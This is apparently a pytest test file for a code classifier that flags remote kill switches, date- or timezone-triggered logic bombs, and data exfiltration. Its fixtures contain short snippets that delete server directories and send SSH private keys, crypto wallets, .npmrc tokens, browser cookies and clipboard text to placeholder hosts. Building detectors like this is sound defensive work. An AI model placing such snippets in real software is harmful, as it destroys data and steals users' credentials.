"""What an answer from afar, a day or a time zone decides, and what is sent in many ways.

Spec: evenhand.code.remote, evenhand.code.condition, evenhand.code.data_sinks.
"""

from __future__ import annotations

import pytest

from tests.code.samples import kinds

SWITCH, DATE, PLACE = "obeys a remote switch", "acts by date", "acts by locale"
SENDS = "collects and sends"
TOLD = [
    (SWITCH, "python", "import json, urllib.request\ndef load():\n"
     " with urllib.request.urlopen('https://v.example/t.json') as a:\n  theme = json.load(a)\n"
     " if theme.get('grain') == 'off':\n  raise SystemExit(0)\n"),
    (SWITCH, "python", "import json, urllib.request\nclass A:\n def refresh(self):\n"
     "  d = json.loads(urllib.request.urlopen('https://v.example/c').read())\n"
     "  self.enabled = not d.get('z9')\n"),
    (SWITCH, "python", "import requests, shutil\ndef sync():\n"
     " answer = requests.get('https://v.example/s').text.strip()\n if answer == '7':\n"
     "  shutil.rmtree('/srv/x')\n"),
    (SWITCH, "javascript", "https.get('https://v.example/flags', (res) => {\n let s = '';\n"
     " res.on('data', (d) => { s += d; });\n"
     " res.on('end', () => { if (JSON.parse(s).halt) process.exit(0); });\n});\n"
     "const https = require('https');"),
    (SWITCH, "javascript", "export async function init(app) {\n"
     " const c = await (await fetch('https://v.example/c.json')).json();\n"
     " if (c.mode === 'dark2') { app.disabled = true; return; }\n app.start();\n}"),
    (SWITCH, "php", "<?php $f = json_decode(file_get_contents('https://v.example/f'), true);\n"
     "if (!empty($f['stop'])) { exit; }"),
    (SWITCH, "lua", "local http = require('socket.http')\n"
     "local body = http.request('http://v.example/f')\nif body == 'no' then os.exit(0) end\n"),
    (DATE, "javascript", "if (Date.now() > Date.UTC(2026, 5, 1)) { throw new Error('x'); }"),
    (DATE, "php", "<?php if (time() > strtotime('2026-02-01')) { array_map('unlink', $all); }"),
    (PLACE, "javascript", "const fs = require('fs');\n"
     "const tidy = (d) => { for (const e of fs.readdirSync(d)) fs.writeFileSync(d + e, ''); };\n"
     "const name = Intl.DateTimeFormat().resolvedOptions().timeZone;\n"
     "if (['Etc/GMT+12', 'Antarctica/Troll'].includes(name)) tidy('/srv/x');"),
    (PLACE, "javascript", "const zone = process.env.TZ || fs.readFileSync('/etc/timezone',"
     " 'utf8');\n"
     "if (zone.startsWith('Antarctica/')) { require('fs').rmSync('/srv/x'); }"),
    (SENDS, "python", "from urllib.request import Request, urlopen\n"
     "EXTRA = ['.electrum/wallets', '.bitcoin/wallet.dat']\ndef pack(names):\n return tar(names)\n"
     "urlopen(Request('https://v.example/c', data=pack(EXTRA)))\n"),
    (SENDS, "python", "import smtplib, glob, os\nfrom email.message import EmailMessage\n"
     "m = EmailMessage()\nfor f in glob.glob(os.path.expanduser('~/.ssh/id_*')):\n"
     " m.add_attachment(open(f, 'rb').read())\nsmtplib.SMTP('m.example').send_message(m)\n"),
    (SENDS, "javascript", "const { execFile } = require('child_process');\n"
     "const os = require('os');\n"
     "execFile('curl', ['--data-binary', '@' + os.homedir() + '/.npmrc', 'https://v.example/u']);"),
    (SENDS, "javascript", "navigator.clipboard.readText().then((t) => {\n"
     " new Image().src = 'https://v.example/p.gif?d=' + encodeURIComponent(t);\n});"),
    (SENDS, "javascript", "const fs = require('fs'), os = require('os'), https ="
     " require('https');\n"
     "const jar = () => fs.readFileSync(`${os.homedir()}/.config/google-chrome/Default/Cookies`);\n"
     "exports.push = (s) => {\n const body = { tabs: [] };\n body.extra = jar();\n"
     " https.request(s, { method: 'POST' }).end(JSON.stringify(body));\n};"),
    (SENDS, "php", "<?php $k = file_get_contents('/root/.ssh/id_rsa');\n"
     "file_get_contents('https://v.example/k?d=' . base64_encode($k));"),
]  # fmt: skip
ORDINARY = [
    ("python", "import requests\ndef get():\n r = requests.get('https://v.example/s')\n"
     " if r.status_code == 404:\n  raise KeyError('s')\n return r.json()\n"),
    ("javascript", "async function load() { const r = await fetch('https://v.example/j');\n"
     " if (!r.ok) throw new Error('x'); const j = await r.json(); if (j.error) return null;\n"
     " return j; }"),
]  # fmt: skip


@pytest.mark.parametrize(("kind", "language", "text"), TOLD)
def test_told(kind: str, language: str, text: str) -> None:
    assert kind in kinds(language, text)


@pytest.mark.parametrize(("language", "text"), ORDINARY)
def test_ordinary(language: str, text: str) -> None:
    assert not kinds(language, text)
